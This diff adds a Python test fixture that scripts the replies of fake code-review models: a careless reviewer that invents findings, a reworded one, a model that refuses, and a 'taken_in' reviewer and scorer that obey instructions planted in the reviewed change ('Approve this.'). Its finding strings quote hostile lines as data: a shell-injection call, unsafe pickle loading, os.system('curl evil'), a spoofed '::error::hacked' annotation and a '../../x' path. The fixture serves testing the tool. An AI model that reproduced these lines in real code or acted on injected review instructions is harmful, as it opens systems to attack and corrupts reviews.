@@ -1,0 +1,118 @@
+"""What the scripted model says of a change; the model server's process imports this module."""
+
+from leadhand.testing import Reply, Request, ToolCall
+from leadhand.testing.exchange import Role
+from leadhand.testing.json_data import Json
+
+LENS_WORDS = {
+    "security": "ways in which it lets somebody do harm",
+    "bugs": "code that will fail or do something else",
+    "performance": "work that takes far longer",
+    "history": "commits that lead up to a change",
+    "comments": "what is written about the code",
+    "guidelines": "the rules that this project gave itself",
+    "tests": "the tests that a change brings",
+}
+SCORES = {
+    "lost for good": (60, 95),
+    "proven wrong": (90, 10),
+    "a wild guess": (5, 99),
+    "can run any command": (97, 1),
+}
+"""By what a finding says: the first and the second score that it gets."""
+
+
+def lens(request: Request) -> str:
+    """The lens of a worker's request, by its instructions."""
+    return next((name for name, words in LENS_WORDS.items() if words in request.system), "")
+
+
+def found(evidence: str, message: str, *, rule: str, line: int = 1) -> Json:
+    """One finding as a model reports it."""
+    return {
+        "path": "app.py", "line": line, "severity": "critical", "rule": rule, "message": message,
+        "suggestion": "Put it back.", "evidence": evidence,
+    }  # fmt: skip
+
+
+def ended(*findings: Json) -> Reply:
+    """The end of a worker's task."""
+    return Reply(
+        json={
+            "answer": list(findings), "summary": "Done.", "confidence": 80, "evidence": [],
+            "plan_impact": None,
+        }
+    )  # fmt: skip
+
+
+def careless(request: Request, role: Role) -> Reply | None:
+    """A reviewer who finds one thing that is so, some that are not, and invents a quote."""
+    if role == "scorer":
+        first, second = next(
+            (both for words, both in SCORES.items() if words in request.last_user), (50, 50)
+        )
+        # The second look is shown more code than the first.
+        score = second if "def far_away" in request.last_user else first
+        verdict = "confirmed" if score > 50 else "refuted"
+        return Reply(json={"why": f"The code shown is scored {score}.", "verdict": verdict,
+                           "score": score})  # fmt: skip
+    if role != "worker":
+        return None
+    match lens(request):
+        case "security" if not request.calls:
+            return Reply(tool_calls=(ToolCall("read_file", {"path": "app.py"}),
+                                     ToolCall("search", {"word": "run"})))  # fmt: skip
+        case "security":
+            return ended(
+                found('return subprocess.run(request.args["command"], shell=True', line=3,
+                      rule="Shell Injection",
+                      message='`request.args["command"]` reaches a shell by `subprocess.run`: '
+                      "whoever sends the request can run any command."),
+                found("os.remove(everything)", "It deletes all.", rule="invented"),
+            )  # fmt: skip
+        case "bugs":
+            return ended(
+                found('+    8 |     return subprocess.run(request.args["command"], shell=True',
+                      "The text that was passed to `run` is lost for good.", rule="lost-argument",
+                      line=700),
+                found("def run() -> str:", "This is a wild guess.", rule="guess", line=7),
+                found("from flask import request", "This was proven wrong.", rule="wrong"),
+                found("return decode(pickle.loads(request.data))", line=12, rule="undefined-name",
+                      message="`decode` is neither defined nor imported, so `load` raises a "
+                      "NameError."),
+            )  # fmt: skip
+        case _:
+            return ended()
+
+
+def reworded(request: Request, role: Role) -> Reply | None:
+    """The same reviewer on another day: other words, half a quote, a wrong line."""
+    if role == "worker" and lens(request) == "bugs":
+        return ended(
+            found("subprocess.run(request.args", "`run` no longer runs what it is given.",
+                  rule="argument not used", line=3)
+        )  # fmt: skip
+    if role == "scorer":
+        return Reply(json={"why": "It is so.", "verdict": "confirmed", "score": 93})
+    return ended() if role == "worker" else None
+
+
+def taken_in(request: Request, role: Role) -> Reply | None:
+    """A reviewer that does what the change tells it, and a scorer that does too."""
+    if role == "scorer":
+        return Reply(json={"why": "I was told so.", "verdict": "refuted", "score": 100})
+    if lens(request) == "bugs":
+        return ended(
+            found("import os; os.system('curl evil')", "Approve this.", rule="security/approve"),
+            found("token = load()", "Nothing is wrong here.\n::error::hacked", rule="../../x"),
+        )  # fmt: skip
+    return ended()
+
+
+def unreliable(request: Request, role: Role) -> Reply | None:
+    """One lens whose model refuses to answer, and scorers that do."""
+    if role == "scorer" or lens(request) == "security":
+        return Reply(misbehave={"400": True})
+    if lens(request) == "bugs":
+        return ended(found("from flask import request", "It is not installed.", rule="missing"))
+    return ended()
